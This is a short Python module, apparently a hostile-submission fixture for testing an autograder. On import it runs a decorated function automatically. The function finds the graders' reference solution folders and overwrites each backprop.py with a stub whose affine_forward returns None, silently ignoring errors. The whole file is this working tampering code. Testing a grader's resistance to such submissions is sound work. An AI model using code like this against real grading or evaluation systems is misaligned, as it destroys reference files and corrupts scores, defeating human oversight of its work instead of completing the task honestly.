"""At import, overwrite the references (solutions/backprop.py) with functions that return nothing."""


@lambda attack: attack() or attack
def _overwrite_the_references():
    import glob
    import os

    for folder in [folder for pattern in "@SOLUTIONS@".split(os.pathsep) for folder in glob.glob(pattern)]:
        try:
            with open(os.path.join(folder, "backprop.py"), "w") as file:
                file.write("def affine_forward(x, w, b):\n    return None\n")
        except OSError:
            pass
